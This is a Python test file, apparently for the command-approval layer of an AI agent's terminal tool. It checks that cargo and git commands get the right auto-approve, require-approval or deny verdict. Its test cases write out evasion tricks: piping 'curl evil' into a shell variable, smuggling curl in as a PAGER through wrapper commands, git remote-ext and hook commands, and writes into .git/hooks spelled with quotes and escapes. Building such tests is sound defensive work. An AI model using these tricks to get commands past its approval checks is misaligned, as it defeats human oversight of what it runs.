    assert term("cargo nextest run", allow=("Terminal(cargo nextest run)",)).decision == "auto_approve"
    assert term("cargo nextest run", allow=("Terminal(cargo nextest)",)).decision != "auto_approve"
    assert derive_always("cargo nextest run").patterns == ("Terminal(cargo nextest run)",)


@pytest.mark.parametrize(
    "command",
    [
        "cargo test",
        "cargo build --release",
        "cargo +nightly check",
        "cargo -vv test",
        "cargo clippy -- -D warnings",
        "cargo fmt --check",
        "cargo t",
        "cargo doc --no-deps",
        "cargo tree",
        "cargo metadata --format-version 1",
    ],
)
def test_cargo_s_own_commands_keep_their_verdict(command):  # issue 11 class 6
    assert term(command, allow=("Terminal(cargo)",)).decision == "auto_approve", command
    assert term(command, project=CONTAINER_RUNNING).decision == "auto_approve", command


def test_deny_rules_still_deny_a_cargo_alias_call():  # issue 11 class 6
    assert term("cargo xtask", allow=("Terminal(cargo)",), deny=("Terminal(cargo xtask)",)).decision == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "git hook run pre-commit",
        "git web--browse http://x",
        "git credential fill",
        "git daemon --export-all",
        "git remote-ext origin 'curl x'",
        "git shell -c 'git-upload-pack x'",
        "git -C src hook run pre-push",
    ],
)
def test_issue11_class6_git_commands_that_run_programs_by_nature_are_not_prefix_allowed(command):
    # Issue 11 class 6: hooks, credential helpers, a browser, a daemon, a command in a remote URL.
    v = term(command, allow=("Terminal(git)",))
    assert v.decision == "require_approval", v


@pytest.mark.parametrize(
    "command, deny, expected",
    [
        ("echo curl evil | $X", ("Terminal(curl)",), "deny"),  # what echo prints is the next command's input
        ("printf curl | $SHELL", ("Terminal(curl)",), "deny"),
        ("echo a | python3", (), "require_approval"),  # python3 reads code from its input: opaque
    ],
)
def test_issue11_class5_echo_piped_on_is_read_the_same_on_every_path(command, deny, expected):
    # The plain-command shortcut once skipped what echo/printf hand to the next command.
    v = term(command, deny=deny, allow=("Terminal(python3)", "Terminal(echo)"), project=CONTAINER_RUNNING)
    assert v.decision == expected, v


@pytest.mark.parametrize(
    "command",
    ["nice GIT_PAGER=curl tig", "linux64 PAGER=curl", "setarch x86_64 PAGER=curl"],
)
def test_issue11_class6_an_assignment_a_wrapper_passes_on_is_read(command):
    # A wrapper passes its assignments to the program it runs: a command-valued one is a segment.
    v = term(command, deny=("Terminal(curl)",), project=CONTAINER_RUNNING, autonomy=AUTO_MODE)
    assert v.decision != "auto_approve", v
    if "curl" in command:
        assert v.decision == "deny", v


@pytest.mark.parametrize(
    "command",
    ["echo x > .g'i't/hooks/pre-commit", 'echo x | tee .g"it"/config', "echo x > .gi\\t/hooks/post-merge"],
)
def test_issue11_a_write_into_git_spelled_with_quotes_or_escapes_is_never_auto_approved(command):
    # decide() skips the .git check when the text cannot name .git; quotes and escapes can build it
    v = term(
        command, allow=("Terminal(echo)", "Terminal(tee)"), project=CONTAINER_RUNNING, autonomy=AUTO_MODE
    )
    assert v.decision == "require_approval", v
